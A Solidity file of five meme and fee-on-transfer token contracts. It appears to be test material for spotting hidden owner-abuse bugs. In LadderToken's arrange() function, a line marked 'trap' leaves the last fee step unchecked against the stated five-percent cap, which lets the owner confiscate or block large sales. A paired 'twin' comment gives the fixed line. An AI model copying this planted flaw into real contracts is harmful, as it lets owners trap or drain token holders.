// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {ERC20} from "@openzeppelin/contracts-4/token/ERC20/ERC20.sol";
import {ERC20Burnable} from "@openzeppelin/contracts-4/token/ERC20/extensions/ERC20Burnable.sol";
import {ERC20Snapshot} from "@openzeppelin/contracts-4/token/ERC20/extensions/ERC20Snapshot.sol";
import {AccessControl} from "@openzeppelin/contracts-4/access/AccessControl.sol";

/// A meme. On its first day a wallet holds two percent at most and buys once in a block; who came in the very block of the opening
/// left a fifth of that purchase to nobody. The limits end with the day, or before.
contract Sparrow is Base8("Sparrow on a Wire", "SPRW", 1_000_000_000) {
    uint256 public openedAt;
    uint256 public openedBlock;
    bool public limited = true;
    uint256 public constant maxBuy = 10_000_000 ether;
    uint256 public constant maxWallet = 20_000_000 ether;
    mapping(address => uint256) private lastBuy;

    event Opened(uint256 block);
    event LimitsLifted();

    function openTrading() external onlyOwner {
        require(openedAt == 0, "open");
        (openedAt, openedBlock) = (block.timestamp, block.number);
        emit Opened(block.number);
    }

    function liftLimits() external onlyOwner {
        limited = false;
        emit LimitsLifted();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _owner || to == _owner) return _move(from, to, value);
        require(openedAt != 0, "not open yet");
        if (limited && block.timestamp < openedAt + 1 days && from == pair && to != ROUTER) {
            require(value <= maxBuy, "max buy");
            require(_balances[to] + value <= maxWallet, "max wallet");
            require(lastBuy[tx.origin] < block.number, "once in a block");
            lastBuy[tx.origin] = block.number;
            if (block.number == openedBlock) {
                _move(from, address(0xdead), value / 5);
                value -= value / 5;
            }
        }
        _move(from, to, value);
    }
}

/// Three percent of purchases and four of sales for the work on it, never more than five. What was kept is sold on the way, a little
/// at a time; a sale goes through whether that works or not.
contract Kettle is Base8 {
    uint256 public constant MOST = 5;
    uint256 public buyFee = 3;
    uint256 public sellFee = 4;
    uint256 public swapAt = 200_000 ether;
    bool public swapEnabled = true;
    bool private swapping;
    address public workshop;
    mapping(address => bool) public exempt;

    event FeesChanged(uint256 buy, uint256 sell);
    event SwappedBack(uint256 tokens, uint256 coins);

    constructor() Base8("Kettle", "KTTL", 800_000_000) {
        workshop = msg.sender;
        exempt[msg.sender] = exempt[address(this)] = true;
    }

    receive() external payable {}

    function setFees(uint256 buy, uint256 sell) external onlyOwner {
        require(buy <= MOST && sell <= MOST, "five at most");
        (buyFee, sellFee) = (buy, sell);
        emit FeesChanged(buy, sell);
    }

    function setSwap(bool enabled, uint256 at) external onlyOwner {
        require(at >= totalSupply / 100_000 && at <= totalSupply / 2_000, "amount");
        (swapEnabled, swapAt) = (enabled, at);
    }

    function setWorkshop(address to) external onlyOwner {
        require(to != address(0), "nobody");
        workshop = to;
    }

    function setExempt(address who, bool to) external onlyOwner {
        exempt[who] = to;
    }

    function rescue(address token, uint256 value) external onlyOwner {
        require(token != address(this), "not its own");
        (bool ok, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", workshop, value));
        require(ok, "refused");
    }

    function swapBack() private {
        swapping = true;
        uint256 had = address(this).balance;
        _approve(address(this), ROUTER, swapAt);
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), WETH);
        (bool ok, ) = ROUTER.call(
            abi.encodeWithSignature(
                "swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)",
                swapAt, 0, path, address(this), block.timestamp
            )
        );
        if (ok) {
            uint256 got = address(this).balance - had;
            (bool sent, ) = workshop.call{value: got, gas: 20_000}("");
            if (sent) emit SwappedBack(swapAt, got);
        }
        swapping = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (swapping || exempt[from] || exempt[to]) return _move(from, to, value);
        if (to == pair && swapEnabled && _balances[address(this)] >= swapAt) swapBack();
        uint256 fee = from == pair ? buyFee : to == pair ? sellFee : 0;
        uint256 kept = (value * fee) / 100;
        if (kept > 0) _move(from, address(this), kept);
        _move(from, to, value - kept);
    }
}

/// Balances of the past can be read. Whoever has the role takes the pictures, and can do nothing else.
contract Almoner is ERC20, ERC20Burnable, ERC20Snapshot, AccessControl {
    bytes32 public constant SNAPSHOT_ROLE = keccak256("SNAPSHOT_ROLE");

    constructor() ERC20("Almoner", "ALMN") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(SNAPSHOT_ROLE, msg.sender);
        _mint(msg.sender, 75_000_000 ether);
    }

    function snapshot() external onlyRole(SNAPSHOT_ROLE) returns (uint256) {
        return _snapshot();
    }

    function _beforeTokenTransfer(address from, address to, uint256 value) internal override(ERC20, ERC20Snapshot) {
        super._beforeTokenTransfer(from, to, value);
    }
}

/// On its first day it goes to the pool and comes from there, and not from one person to another.
contract Threshold is Base8 {
    uint256 public immutable born = block.timestamp;
    address public immutable founder = msg.sender;

    constructor() Base8("Threshold", "THRS", 33_000_000) {}

    function boundUntil() public view returns (uint256) {
        return born + 1 days;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (block.timestamp < boundUntil()) require(from == pair || to == pair || from == founder, "on the second day");
        _move(from, to, value);
    }
}

/// What a sale leaves to the treasury depends on its size: steps that the owner arranges, each of five percent at most.
contract LadderToken is Base8 {
    struct Step {
        uint128 from;
        uint64 rate;
        uint64 since;
    }
    uint64 public constant MOST = 500;
    Step[] public steps;
    address public immutable treasury = msg.sender;

    event StepsArranged(uint256 count);

    constructor() Base8("Ladder", "LDDR", 1_000_000_000) {
        steps.push(Step(0, 200, uint64(block.timestamp)));
        steps.push(Step(40_000_000 ether, 240, uint64(block.timestamp)));
    }

    function arrange(uint128[] calldata floors, uint64[] calldata rates) external onlyOwner {
        require(floors.length > 0 && floors.length <= 8 && floors.length == rates.length, "steps");
        delete steps;
        for (uint256 i; i < floors.length; i++) {
            if (i > 0) require(floors[i] > floors[i - 1] && rates[i - 1] <= MOST, "order"); // trap
            // twin: require(rates[i] <= MOST && (i == 0 || floors[i] > floors[i - 1]), "order");
            steps.push(Step(floors[i], rates[i], uint64(block.timestamp)));
        }
        emit StepsArranged(floors.length);
    }

    function rateOf(uint256 value) public view returns (uint256 rate) {
        for (uint256 i; i < steps.length && steps[i].from <= value; i++) rate = steps[i].rate;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept = to != pair || from == treasury ? 0 : (value * rateOf(value)) / 10_000;
        if (kept > 0) _move(from, treasury, kept);
        _move(from, to, value - kept);
    }
}
